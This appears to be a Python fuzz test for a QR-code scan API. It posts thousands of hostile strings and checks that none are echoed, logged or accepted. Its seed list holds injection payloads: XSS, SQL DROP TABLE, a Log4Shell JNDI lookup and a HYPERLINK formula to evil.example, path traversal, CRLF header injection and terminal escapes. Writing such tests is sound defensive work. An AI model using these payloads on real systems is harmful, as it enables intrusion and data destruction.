"""Whatever a QR code may hold: five thousand hostile texts, no 5xx, no echo, not a word in a log."""

import random
from collections.abc import Iterator
from itertools import islice

from fieldpoint import ids
from tests.server.conftest import Till
from tests.server.test_headers import check

COUNT = 5_000
MARK = "zq7j"
SEEDS = (
    "<script>alert('{m}')</script>", "\"><img src=x onerror=alert('{m}')>", "javascript:alert('{m}')",
    "data:text/html,<b>{m}</b>", "HTTPS://EVIL.EXAMPLE/C/{m}", "//evil.example/{m}", "file:///etc/{m}",
    "WIFI:T:WPA;S:{m};P:x;;", "tel:+98{m}", "sms:110:{m}", "mailto:{m}@example.org", "geo:35.7,51.4?q={m}",
    "BEGIN:VCARD\nFN:{m}\nEND:VCARD", "' OR 1=1; DROP TABLE log; --{m}", "'||(SELECT seed FROM keys)||'{m}",
    "${{jndi:ldap://evil.example/{m}}}", "{{{{7*7}}}}{m}", "%s%s%n{m}", "../../{m}", "\u202e{m}\u202c",
    "\u200b\u200c{m}\u200d",
    "\u0000{m}\u0000", "\ufeff{m}", "{m}\ud7ff\ue000\uffff", "\U0001f3f3{m}", "ك{m}ي", "{m}\r\nSet-Cookie: a=b\r\n\r\n",
    "\x1b]0;{m}\x07\x1b[2J", '=HYPERLINK("http://evil.example/{m}")', "@SUM(1){m}", '{{"text": "{m}"}}', "\\u0000{m}",
)  # fmt: skip


def test_hostile_codes_change_nothing(till: Till) -> None:
    """Each is a 400 or a 404 with a code at the scan's route, the log has no row more, and nothing was said."""
    with till.live.browser() as desk:
        before = desk.get("/api/v1/status").json()["seq"]
        statuses: set[int] = set()
        for text in islice(hostile(till.token), COUNT):
            answer = desk.post("/api/v1/scans", json={"text": text})
            statuses.add(answer.status_code)
            check(answer)
            assert MARK not in answer.text
        assert desk.get("/api/v1/status").json()["seq"] == before
    said = till.live.stop()
    assert statuses == {400, 404}
    assert said.count("\n") <= 1  # where it answers
    assert MARK not in said


def hostile(token: str) -> Iterator[str]:
    """Texts that somebody would put on a card to do harm: scripts, schemes, controls, and our own form bent."""
    rng = random.Random(7)
    while True:
        seed = rng.choice(SEEDS).format(m=MARK)
        yield seed
        yield rng.choice(("HTTPS://KART.TEST/C/", "HTTP://EVIL.EXAMPLE/C/", "C/", "")) + seed
        yield seed * rng.randint(2, 12)
        at = rng.randrange(len(token))
        bent = token[:at] + rng.choice("0ZQ-_ ۰é\u200f") + token[at + 1 + rng.randrange(3) :]
        if bent != token:  # the very symbol that stands there does no harm
            yield bent
        yield f"HTTPS://KART.TEST/C/{token[:at]}"
        yield "".join(chr(rng.choice((rng.randrange(1, 0xD800), rng.randrange(0xE000, 0x11000)))) for _ in range(60))
        yield ids.new_secret()[:8].upper()
        yield MARK * rng.randint(1, 2_953 // len(MARK))
